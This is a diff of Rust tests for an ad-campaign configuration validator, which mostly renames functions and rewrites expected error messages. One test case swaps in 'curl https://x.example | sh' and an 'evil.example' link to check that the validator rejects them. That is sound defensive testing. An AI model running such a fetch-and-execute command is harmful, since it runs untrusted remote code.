@@ -1,7 +1,7 @@
 use crate::catalog::files;
 
-/// The example with one text changed in one of its files: what is said about it.
-fn broken(file: &str, from: &str, to: &str) -> Vec<String> {
+/// The problems of the example with one text replaced in one of its files.
+fn problems_of(file: &str, from: &str, to: &str) -> Vec<String> {
     let mut changed = false;
     let texts: Vec<(String, String)> = files::EXAMPLE
         .iter()
@@ -12,7 +12,7 @@ fn broken(file: &str, from: &str, to: &str) -> Vec<String> {
             ((*name).to_owned(), text)
         })
         .collect();
-    assert!(changed, "`{from}` stands in {file}");
+    assert!(changed, "{file} contains `{from}`");
     match files::parse(&texts) {
         Ok(_) => Vec::new(),
         Err(problems) => problems.iter().map(ToString::to_string).collect(),
@@ -23,41 +23,45 @@ fn files_text(name: &str) -> &'static str {
     files::EXAMPLE.iter().find(|(one, _)| *one == name).unwrap().1
 }
 
-fn refused(file: &str, cases: &[(&str, &str, &str)]) {
+fn assert_rejected(file: &str, cases: &[(&str, &str, &str)]) {
     for (from, to, expected) in cases {
-        let said = broken(file, from, to);
-        let place = format!("config/inventory/{file}:");
+        let problems = problems_of(file, from, to);
+        let location = format!("config/inventory/{file}:");
         assert!(
-            said.iter().any(|one| one.starts_with(&place) && one.contains(expected)),
-            "{to}: {said:#?}"
+            problems.iter().any(|one| one.starts_with(&location) && one.contains(expected)),
+            "{to}: {problems:#?}"
         );
     }
 }
 
 #[test]
-fn a_creative_says_only_what_it_may() {
-    refused(
+fn texts_links_and_claims_of_creatives_are_checked() {
+    assert_rejected(
         "zahid-host.toml",
         &[
             (
                 "\"Run your AI",
                 "\"\\u202ERun your AI",
-                "creatives[0].headline: has a character that turns",
+                "creatives[0].headline: contains a character that changes",
             ),
             (
                 "\"Pricing\"",
                 "\"Pri\\u200Bcing\"",
-                "ctas[1].text: has a character that does not show",
+                "ctas[1].text: contains an invisible character",
             ),
             ("git push zahid main", "curl https://x.example | sh", "command.text: pipes into"),
             (
                 "https://zahid.host/pricing",
                 "https://evil.example/",
-                "ctas[1].url: leads to `evil.example`",
+                "ctas[1].url: host `evil.example`",
             ),
             ("https://zahid.host/pricing", "http://zahid.host/", "ctas[1].url: is not https"),
             ("from={publisher}", "from={reader}", "ctas[0].url: `{reader}` is not a macro"),
-            ("id = \"pricing\"", "id = \"primary\"", "ctas[1].id: `primary` is given twice"),
+            (
+                "id = \"pricing\"",
+                "id = \"primary\"",
+                "ctas[1].id: must be unique (got `primary` twice)",
+            ),
             (
                 "fallback = \"reading about agents? ship yours in a single git push.\", ",
                 "",
@@ -67,7 +71,7 @@ fn a_creative_says_only_what_it_may() {
             (
                 "as_of = \"2026-10-01\"",
                 "as_of = \"2037-10-01\"",
-                "proofs[0].valid_until: is not after",
+                "proofs[0].valid_until: must be after `as_of`, 2037-10-01 (got 2036-12-31)",
             ),
             (
                 "source = \"zahid.host, own count of running projects\"\n",
@@ -82,7 +86,7 @@ fn a_creative_says_only_what_it_may() {
             (
                 "[\"eea\", \"CH\"]",
                 "[\"eeaa\", \"CH\"]",
-                "proofs[0].regions.any[0]: there is no region `eeaa`",
+                "proofs[0].regions.any[0]: unknown region `eeaa`",
             ),
             (
                 "audience = \"business\"",
@@ -104,14 +108,14 @@ fn a_creative_says_only_what_it_may() {
 }
 
 #[test]
-fn money_and_dates_are_exact_and_possible() {
-    refused(
+fn prices_budgets_and_dates_are_checked() {
+    assert_rejected(
         "zahid-host.toml",
         &[
             (
                 "price_micros = 8_000_000",
                 "price_micros = 8_000_001",
-                "price_micros: a price per thousand is a multiple",
+                "price_micros: must be a multiple of 1000 for pricing",
             ),
             ("price_micros = 8_000_000", "price_micros = -1000", "is not an amount"),
             ("price_micros = 8_000_000", "price_micros = 9007199254740992", "is not an amount"),
@@ -123,7 +127,7 @@ fn money_and_dates_are_exact_and_possible() {
             (
                 "price_micros = 8_000_000",
                 "price_micros = 8_000_000\nweight = nan",
-                "weight: is not a finite number",
+                "weight: must be a finite number",
             ),
             (
                 "price_micros = 8_000_000",
@@ -133,14 +137,18 @@ fn money_and_dates_are_exact_and_possible() {
             (
                 "daily_micros = 200_000_000",
                 "daily_micros = 5_000_000_001",
-                "is more than the whole budget",
+                "must be at most `lifetime_micros`, 5000000000 (got 5000000001)",
             ),
-            ("daily_micros = 200_000_000", "daily_micros = 0", "budget.daily_micros: is 0"),
-            ("pacing = \"asap\"", "goal_impressions = 10", "goal_impressions: needs `ends`"),
+            (
+                "daily_micros = 200_000_000",
+                "daily_micros = 0",
+                "budget.daily_micros: must be greater than 0",
+            ),
+            ("pacing = \"asap\"", "goal_impressions = 10", "goal_impressions: requires `ends`"),
             (
                 "pacing = \"asap\"",
                 "starts = \"2026-01-02T00:00:00\"\nends = \"2026-01-02T00:00:00\"",
-                "ends: is not after",
+                "ends: must be after `starts`",
             ),
             ("currency = \"EUR\"", "currency = \"EURO\"", "is not a currency"),
         ],
@@ -148,27 +156,23 @@ fn money_and_dates_are_exact_and_possible() {
 }
 
 #[test]
-fn a_campaign_is_not_political_and_says_its_business() {
-    refused(
+fn a_campaign_must_not_be_political_and_must_declare_a_category() {
+    assert_rejected(
         "zahid-host.toml",
         &[
-            (
-                "political = false",
-                "political = true",
-                "campaigns[0].political: political messages are refused",
-            ),
+            ("political = false", "political = true", "campaigns[0].political: must be false"),
             ("political = false\n", "", "missing field `political`"),
             ("sectors = [\"software\"]", "sectors = [\"sofware\"]", "did you mean `software`?"),
             ("sectors = [\"software\"]", "sectors = []", "sectors: length"),
-            ("utm_source", "source", "utm: `source` is not utm_"),
-            ("paid_by = \"Zahid Hosting GmbH\"", "paid_by = \" \"", "paid_by: is empty"),
+            ("utm_source", "source", "utm: must have keys of the form utm_[a-z_]+ (got `source`)"),
+            ("paid_by = \"Zahid Hosting GmbH\"", "paid_by = \" \"", "paid_by: must not be empty"),
         ],
     );
 }
 
 #[test]
-fn regions_and_ids_exist_and_are_given_once() {
-    refused(
+fn regions_exist_and_ids_are_unique() {
+    assert_rejected(
         "zahid-host.toml",
         &[
             ("any = [\"eu\", \"CH\"]", "any = [\"eu\", \"C1\"]", "is not a region"),
@@ -176,32 +180,32 @@ fn regions_and_ids_exist_and_are_given_once() {
             (
                 "any = [\"eu\", \"CH\"]",
                 "any = [\"CH\"], none = [\"europe\"]",
-                "targeting.regions: leaves no country",
+                "targeting.regions: must include at least one country",
             ),
             (
                 "\n[[flights]]",
                 "\n[[advertisers]]\nid = \"zahid-host\"\nname = \"Other\"\ndomains = [\"o.example\"]\ncurrency = \"EUR\"\n\n[[flights]]",
-                "advertisers[1].id: `zahid-host` is given twice",
+                "advertisers[1].id: must be unique (got `zahid-host` twice)",
             ),
             (
                 "\n[[flights]]",
                 "\n[[advertisers]]\nid = \"other\"\nname = \"zаhid.host\"\ndomains = [\"o.example\"]\ncurrency = \"EUR\"\n\n[[flights]]",
-                "reads like the name of",
+                "must not look like the name of",
             ),
             ("id = \"zahid-launch\"", "id = \"Zahid Launch\"", "is not an id"),
         ],
     );
-    refused(
+    assert_rejected(
         "publishers.toml",
         &[
             ("id = \"dach\"", "id = \"eu\"", "is a built-in group"),
-            ("id = \"dach\"", "id = \"de\"", "does not name a group"),
-            ("members = [\"DE\", \"AT\", \"CH\"]", "members = []", "holds nobody"),
-            ("regions = [\"MT\"]", "regions = [\"malta\"]", "there is no region `malta`"),
+            ("id = \"dach\"", "id = \"de\"", "must be a valid group id (got `de`)"),
+            ("members = [\"DE\", \"AT\", \"CH\"]", "members = []", "members: must not be empty"),
+            ("regions = [\"MT\"]", "regions = [\"malta\"]", "unknown region `malta`"),
             (
                 "page_urls = \"path\"",
                 "page_urls = \"path\"\nstopped_paths = [\"politics\"]",
-                "stopped_paths[0]: `politics` is not a URL prefix",
+                "stopped_paths[0]: must be a URL prefix",
             ),
             (
                 "page_urls = \"path\"",
@@ -214,13 +218,12 @@ fn regions_and_ids_exist_and_are_given_once() {
 }
 
 #[test]
-fn the_references_of_a_large_inventory_are_looked_up_not_searched() {
-    // A hundred times the flights may take a hundred times as long, not ten thousand times; the
-    // number of suggestions is bounded, too.
+fn checking_references_takes_linear_time_and_bounded_suggestions() {
+    // A hundred times the flights may take a hundred times as long, not ten thousand times.
     let mut inventory = crate::catalog::synth::inventory(2_000, 1);
     inventory.creatives.iter_mut().for_each(|one| one.flight = "flight-1x".parse().unwrap());
     let findings = super::inventory(&inventory);
     assert_eq!(findings.len(), inventory.creatives.len());
-    let helped = findings.iter().filter(|finding| finding.help.is_some()).count();
-    assert_eq!(helped, super::SUGGESTIONS);
+    let suggestions = findings.iter().filter(|finding| finding.help.is_some()).count();
+    assert_eq!(suggestions, super::SUGGESTIONS);
 }
